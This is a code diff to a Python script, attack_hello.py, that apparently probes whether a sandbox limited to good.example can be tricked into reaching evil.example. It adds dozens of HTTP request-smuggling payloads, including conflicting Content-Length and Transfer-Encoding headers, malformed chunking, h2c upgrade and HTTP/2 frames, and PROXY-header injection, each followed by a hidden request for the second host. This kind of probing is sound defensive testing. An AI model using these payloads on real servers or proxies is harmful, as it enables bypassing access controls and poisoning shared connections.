@@ -2,14 +2,14 @@
 Ways to say another name to a server than the one that was asked for.  Runs inside a sandbox that may speak with
 good.example alone, whose server also serves evil.example; that server writes down what it is told.
 
-	attack_hello.py ADDRESS
+	attack_hello.py ADDRESS [ask]		ask: for good.example, now and then
 """
 import socket
 import ssl
 import sys
 import time
 
-AT = sys.argv[1]
+AT, ASK = sys.argv[1], sys.argv[2:] == ["ask"]
 GOOD, EVIL = b"good.example", b"evil.example"
 END = b"\r\n\r\n"
 
@@ -60,8 +60,77 @@ REQUESTS = [
 ]
 
 
+# Behind a request that may pass: on the same connection, at once or when it was answered, or hidden by how the first ends.
+NEXT = request(GET, b"Host: evil.example")
+POST = b"POST / HTTP/1.1", b"Host: good.example"
+CHUNKED = request(*POST, b"Transfer-Encoding: chunked")
+FRAME = b"\0\0\0\x04\0\0\0\0\0" + b"\0\0\x1b\x01\x05\0\0\0\x01" + b"\x82\x86\x84\x01\x0cevil.example"
+SERIES = [
+    request(GET, b"Host: good.example") + NEXT,
+    request(GET, b"Host: good.example") + b"\r\n" + NEXT,
+    request(GET, b"Host: good.example", b"Connection: keep-alive") * 3 + NEXT,
+    request(b"HEAD / HTTP/1.1", b"Host: good.example") + NEXT,
+    request(*POST, b"Content-Length: 5") + b"12345" + NEXT,
+    request(*POST, b"Content-Length: 0") + NEXT,
+    request(*POST, b"Content-Length: 0", b"Content-Length: 400") + NEXT,
+    request(*POST, b"Content-Length: 0, 400") + NEXT,
+    request(*POST, b"Content-Length: -1") + NEXT,
+    request(*POST, b"Content-Length: 0x10") + NEXT,
+    request(*POST, b"Content-Length: 18446744073709551617") + NEXT,
+    request(*POST, b"Content-Length : 400") + NEXT,
+    request(*POST, b"Content-Length: 400", b"Transfer-Encoding: chunked") + b"0\r\n\r\n" + NEXT,
+    request(*POST, b"Transfer-Encoding: chunked", b"Content-Length: 400") + b"0\r\n\r\n" + NEXT,
+    request(*POST, b"Content-Length: 400", b"Transfer-Encoding : chunked") + b"0\r\n\r\n" + NEXT,
+    request(*POST, b"Content-Length: 400", b"Transfer-Encoding: xchunked") + NEXT,
+    request(*POST, b"Content-Length: 400", b"Transfer-Encoding:\x0bchunked") + NEXT,
+    request(*POST, b"Content-Length: 400", b"X: y\nTransfer-Encoding: chunked") + b"0\r\n\r\n" + NEXT,
+    request(*POST, b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity") + b"0\r\n\r\n" + NEXT,
+    CHUNKED + b"0\r\n\r\n" + NEXT,
+    CHUNKED + b"3\r\nabc\r\n0\r\n\r\n" + NEXT,
+    CHUNKED + b"3;x=y\r\nabc\r\n0\r\n\r\n" + NEXT,
+    CHUNKED + b"0\r\nHost: evil.example\r\n\r\n",
+    CHUNKED + b"-1\r\n" + NEXT,
+    CHUNKED + b"0x40\r\n" + NEXT,
+    CHUNKED + b"10000000000000000\r\n" + NEXT,
+    CHUNKED + b"3\nabc\n0\n\n" + NEXT,
+    request(GET, b"Host: good.example", b"Expect: 100-continue") + NEXT,
+    request(GET, b"Host: good.example", b"Upgrade: websocket", b"Connection: Upgrade") + NEXT,
+    request(GET, b"Host: good.example", b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AAMAAABk") + FRAME,
+    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + FRAME,
+    request(GET, b"Host: good.example") + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + FRAME,
+    request(GET, b"Host: good.example") + b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n" + NEXT,
+    request(b"GET / HTTP/1.0", b"Host: good.example") + NEXT,
+]
+
+
+asked = 0.0
+
+
+def connect(port):
+    """Inside, the address is good.example's for a minute after it was asked for."""
+    global asked
+    if ASK and time.monotonic() - asked > 15:
+        socket.getaddrinfo("good.example", 80)
+        asked = time.monotonic()
+    return socket.create_connection((AT, port), 30)
+
+
+def follow(data, where):
+    """In two parts, so that the second comes when the first was answered."""
+    s = connect(7008)
+    s.settimeout(5)
+    try:
+        for part in (data[:where], data[where:]):
+            if part:
+                s.sendall(part)
+                s.recv(4096)
+    except OSError:
+        pass
+    s.close()
+
+
 def say(data, step=0, wait=0.0):
-    s = socket.create_connection((AT, 80), 30)
+    s = connect(80)
     try:
         if step:
             for i in range(0, len(data), step):
@@ -88,7 +157,7 @@ def tls(name, before=b"", step=0):
     except ssl.SSLWantReadError:
         pass
     hello = out.read()
-    s = socket.create_connection((AT, 443), 30)
+    s = connect(443)
     try:
         s.sendall(before)
         if step:  # in several records, too
@@ -107,6 +176,9 @@ def tls(name, before=b"", step=0):
 
 for r in REQUESTS:
     say(r)
+for r in SERIES:
+    follow(r, len(r))
+    follow(r, r.find(END) + 4)
 say(REQUESTS[0], 1, 0.01)
 say(REQUESTS[0], 7)
 tls("evil.example")
